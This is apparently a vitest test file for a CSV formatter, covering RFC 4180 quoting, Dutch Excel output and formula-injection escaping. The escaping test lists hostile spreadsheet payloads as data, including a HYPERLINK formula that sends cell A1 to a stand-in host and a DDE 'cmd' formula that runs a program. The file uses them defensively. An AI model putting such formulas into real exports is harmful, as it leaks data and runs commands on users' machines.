// CSV output: RFC 4180 (read back with Python's strict csv reader), Dutch Excel, and formulas made inert.
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { formatCsv, parseCsv } from '../../src/core/csv.js';

/** Python's csv module in strict mode: a malformed quote is an error, not a guess. */
function pythonRows(csv: string, delimiter: string): string[][] {
  const script = `import csv, io, json, sys
data = sys.stdin.buffer.read().decode('utf-8-sig')
print(json.dumps(list(csv.reader(io.StringIO(data, newline=''), delimiter=${JSON.stringify(delimiter)}, strict=True))))`;
  return JSON.parse(execFileSync('python3', ['-c', script], { input: csv, encoding: 'utf8' }));
}

const ROWS = [
  ['Bestuursorgaan', 'Verzoeken', '% openbaar'],
  ['Gemeente \'s-Hertogenbosch; "Den Bosch"', 3, 50],
  ['regel\r\nmet breuk, en komma', 0, null],
];

describe('formatCsv', () => {
  it('writes RFC 4180: CRLF after every record, quotes where needed, numbers as numbers', () => {
    const csv = formatCsv(ROWS);
    expect(csv).toBe('Bestuursorgaan,Verzoeken,% openbaar\r\n"Gemeente \'s-Hertogenbosch; ""Den Bosch""",3,50\r\n"regel\r\nmet breuk, en komma",0,\r\n');
    expect(pythonRows(csv, ',')).toEqual(ROWS.map((r) => r.map((c) => (c === null ? '' : String(c)))));
  });

  it('writes Dutch Excel with semicolons and a UTF-8 byte-order mark', () => {
    const csv = formatCsv([['Sjabloon', 'Punten'], ['Ministerie van Binnenlandse Zaken en Koninkrijksrelaties, één', 17]], { excel: true });
    expect(csv.startsWith('\uFEFFSjabloon;Punten\r\n')).toBe(true);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(pythonRows(csv, ';')).toEqual([['Sjabloon', 'Punten'], ['Ministerie van Binnenlandse Zaken en Koninkrijksrelaties, één', '17']]);
    expect(parseCsv(csv)).toEqual([['Sjabloon', 'Punten'], ['Ministerie van Binnenlandse Zaken en Koninkrijksrelaties, één', '17']]);
  });

  it('makes a text that a spreadsheet would run as a formula inert with a leading apostrophe', () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '=cmd|\' /C calc\'!A0'];
    const cells = pythonRows(formatCsv([hostile]), ',')[0];
    expect(cells).toEqual(hostile.map((h) => `'${h}`));
    for (const c of cells) expect(c).toMatch(/^'/);
    // Inner characters and numbers are left alone: a negative count is a number, not a text.
    expect(formatCsv([['a=b', 'x-y', -3]])).toBe('a=b,x-y,-3\r\n');
  });
});
